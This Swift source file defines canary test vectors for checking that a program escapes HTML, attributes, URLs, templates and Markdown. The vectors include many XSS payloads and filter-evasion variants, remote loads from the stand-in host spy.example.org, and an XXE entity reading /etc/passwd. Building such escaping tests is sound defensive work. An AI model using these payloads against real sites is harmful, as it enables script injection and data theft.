/// Texts that become markup, scripts, templates or Markdown if they are not escaped.
///
/// A script that runs sets `window.__canary`; an element that appears has the attribute `data-canary` or loads from
/// `spy.example.org`, so that a browser can detect it.
package enum HostileMarkup {
    /// Elements that run or load something, and that end the surrounding elements.
    package static let elements = [
        "<script>window.__canary=1</script>", "<ScRiPt>window.__canary=1</sCrIpT>",
        "<script\n>window.__canary=1</script\n>",
        "<script/x>window.__canary=1</script>", "<script src=//spy.example.org/canary.js></script>",
        "<script type=module>window.__canary=1</script>",
        "<<script>window.__canary=1//<</script>", "<scr<script>ipt>window.__canary=1</scr</script>ipt>",
        "<script>window.__canary=1",
        "</script><script>window.__canary=1</script>", "<img src=x onerror=window.__canary=1>",
        "<img src=x onerror=\"window.__canary=1\"",
        "<img/src=`x`/onerror=window.__canary=1>", "<IMG \"\"\"><SCRIPT>window.__canary=1</SCRIPT>\">",
        "<image src=x onerror=window.__canary=1>",
        "<video src=x onerror=window.__canary=1>", "<video><source onerror=window.__canary=1>",
        "<audio src=x onerror=window.__canary=1>",
        "<body onload=window.__canary=1>", "<svg onload=window.__canary=1>", "<svg/onload=window.__canary=1>",
        "<svg><script>window.__canary=1</script></svg>",
        "<svg><animate onbegin=window.__canary=1 attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=window.__canary=1>",
        "<svg><a xlink:href=javascript:window.__canary=1><text y=9>x</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.__canary=1</script>\"></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,canary#x\"/>",
        "<math><mtext><mglyph><style><img src=x onerror=window.__canary=1>",
        "<math href=javascript:window.__canary=1>x</math>",
        "<iframe src=javascript:parent.__canary=1></iframe>", "<iframe srcdoc=\"<script>parent.__canary=1</script>\">",
        "<object data=javascript:window.__canary=1>", "<embed src=javascript:window.__canary=1>",
        "<base href=//spy.example.org/canary/>",
        "<meta http-equiv=refresh content=\"0;url=//spy.example.org/canary\">",
        "<link rel=stylesheet href=//spy.example.org/canary.css>",
        "<form action=//spy.example.org/canary><input autofocus onfocus=window.__canary=1>",
        "<button formaction=javascript:window.__canary=1>x</button>",
        "<details open ontoggle=window.__canary=1>", "<marquee onstart=window.__canary=1>x</marquee>",
        "<select autofocus onfocus=window.__canary=1>",
        "<textarea autofocus onfocus=window.__canary=1>", "<dialog open data-canary>", "<template data-canary>",
        "<slot data-canary>", "<b data-canary>",
        "<style>*{background:url(//spy.example.org/canary)}</style>",
        "<style>@import '//spy.example.org/canary.css';</style>",
        "<plaintext>canary",
        "<noscript><p title=\"</noscript><img src=x onerror=window.__canary=1>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=window.__canary=1>\">",
        "</title><script>window.__canary=1</script>", "</style><script>window.__canary=1</script>",
        "</textarea><script>window.__canary=1</script>",
        "</head></html><body data-canary>", "</code></pre></td></tr></table></details></section></main><b data-canary>",
        "</svg><b data-canary>",
        "</text></g></svg><img src=x onerror=window.__canary=1>", "<table data-canary><td>", "<p data-canary",
        "<a href=\"", "<",
        "</", "<!", "<?", "<a", "<a b='",
    ]

    /// Values that end their attribute.
    package static let attributes = [
        "\" onmouseover=\"window.__canary=1", "' onmouseover='window.__canary=1",
        "\"><script>window.__canary=1</script>",
        "'><script>window.__canary=1</script>",
        "\" autofocus onfocus=\"window.__canary=1",
        "\" style=\"position:fixed;inset:0;background:url(//spy.example.org/canary)",
        "x onmouseover=window.__canary=1",
        "`onmouseover=window.__canary=1", "\"/><b data-canary>", "'/><b data-canary>",
        "\u{301}\" onload=\"window.__canary=1",
        "\"\u{301} onload=\"window.__canary=1",
        "=\" data-canary=\"", "\" data-canary x=\"", ">canary<", "\"\"\"", "'''", "\\\" onload=\\\"window.__canary=1",
        "\u{A0}\" data-canary \"",
    ]

    /// Character references, valid and invalid ones, comments, sections and declarations.
    package static let references = [
        "&lt;script&gt;window.__canary=1&lt;/script&gt;", "&#60;script&#62;canary", "&#x3C;script&#x3E;canary",
        "&#x3Cscript canary", "&LT;b data-canary&GT;",
        "&#0;canary", "&#128;canary", "&#xD800;canary", "&#x110000;canary", "&#99999999999;canary", "&canary;",
        "&amp;lt;canary&amp;gt;", "&NewLine;canary", "&#10;canary",
        "&colon;canary", "&nbsp;canary", "&", "&;", "&#;", "&#x;", "<!-- canary", "--><b data-canary>",
        "<!--><b data-canary>-->",
        "--!><b data-canary>",
        "<!-- --!><img src=x onerror=window.__canary=1> -->", "<![CDATA[<script>window.__canary=1</script>]]>",
        "]]><b data-canary>", "<?xml version=\"1.0\"?>",
        "<!DOCTYPE canary [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;", "<%= canary %>", "<?php canary ?>",
        "%3Cscript%3Ewindow.__canary=1%3C/script%3E",
        "\\u003cscript\\u003ewindow.__canary=1\\u003c/script\\u003e", "\\x3cscript\\x3ecanary",
        "+ADw-script+AD4-window.__canary=1+ADw-/script+AD4-",
        "\u{FF1C}script\u{FF1E}window.__canary=1\u{FF1C}/script\u{FF1E}", "\u{2039}b data-canary\u{203A}",
        "<\u{338}script>window.__canary=1", "<\u{0}script>window.__canary=1</script>",
        "<\u{FEFF}script>window.__canary=1</script>", "<scr\u{0}ipt>window.__canary=1</scr\u{0}ipt>",
    ]

    /// Addresses that run something.
    package static let addresses = [
        "javascript:window.__canary=1", "JaVaScRiPt:window.__canary=1", "java\nscript:window.__canary=1",
        "java\tscript:window.__canary=1", " javascript:window.__canary=1",
        "\u{1}javascript:window.__canary=1", "javascript&colon;window.__canary=1", "javascript://%0Awindow.__canary=1",
        "data:text/html,<script>window.__canary=1</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19jYW5hcnk9MTwvc2NyaXB0Pg==", "vbscript:canary",
        "//spy.example.org/canary",
        "https://spy.example.org/canary",
        "https:\\\\spy.example.org\\canary", "/\\spy.example.org/canary", "file:///etc/passwd#canary", "blob:canary",
        "http://user:canary@spy.example.org", "mailto:canary@example.org?bcc=spy@example.org",
        "url(javascript:window.__canary=1)", "expression(window.__canary=1)",
        "}*{background:url(//spy.example.org/canary)}",
        "</style>canary", "@import url(//spy.example.org/canary);",
    ]

    /// Tags of templates, whole and in pieces, including those that the program's templates use.
    package static let templates = [
        "{{canary}}", "{{{canary}}}", "{{&canary}}", "{{#canary}}x{{/canary}}", "{{^canary}}x{{/canary}}",
        "{{>head.html}}",
        "{{> day.html}}", "{{!canary}}", "{{=<% %>=}}canary",
        "{{{head.style}}}", "{{#head}}{{title}}{{/head}}", "{{.}}", "{{{.}}}", "{{", "}}", "{{{", "}}}", "{{#canary}}",
        "{{/canary}}", "{{/alerts}}", "{{% CONTENT_TYPE:TEXT}}canary",
        "{{$canary}}x{{/canary}}", "{{<day.html}}x{{/day.html}}", "{ {canary} }", "{\u{200B}{canary}}", "${canary}",
        "#{canary}", "<%=canary%>", "{%canary%}", "[[canary]]", "%(canary)s", "%s%n%x%@", "{0}", "$canary", "`canary`",
        "$(canary)",
    ]

    /// Constructs of Markdown, and of its extensions.
    package static let markdown = [
        "[canary](javascript:window.__canary=1)", "[canary](<javascript:window.__canary=1>)",
        "[canary](data:text/html,canary)",
        "![canary](https://spy.example.org/canary.png)", "![canary][1]", "[1]: https://spy.example.org/canary",
        "[canary]: javascript:window.__canary=1", "[canary]", "[canary][]", "[a](b \"canary\")", "](canary", "![", "[",
        "]",
        "[[]](canary)", "<https://spy.example.org/canary>", "<canary@example.org>", "<javascript:window.__canary=1>",
        "*canary*", "**canary**", "***canary***", "_canary_", "__canary__", "~~canary~~", "* canary", "- canary",
        "+ canary",
        "1. canary", "1) canary", "999999999. canary", "# canary", "###### canary", "canary\n===", "canary\n---", "---",
        "***",
        "___", "> canary",
        "    canary", "\tcanary", "`canary`", "``canary``", "```\ncanary\n```", "```canary", "~~~ canary", "`", "``",
        "`` ` ``",
        "\\", "\\\\", "canary\\", "\\`canary\\`", "\\<b data-canary\\>", "| canary | b |\n|---|---|", "|",
        "canary | canary",
        "- [ ] canary", "- [x] canary",
        "canary\n\n<b data-canary>\n\ncanary", "canary\n\n# canary\n\ncanary", "canary  \ncanary", "\n\n\ncanary",
        "<b data-canary>\n", "<!-- canary -->", "<details>\n\n**canary**", "$$canary$$", "^canary^", ":canary:",
        "@canary", "#1",
        "==canary==", "[^1]", "[^1]: canary", "www.spy.example.org/canary", "https://spy.example.org/canary",
        "+++\ncanary\n+++", "---\ncanary: 1\n---", "&copy;canary", "**\u{A0}canary**", "**canary", "canary**",
        "*\u{200B}canary*",
        "_\u{200B}canary_",
    ]

    package static let vectors = elements + attributes + references + addresses + templates + markdown
}
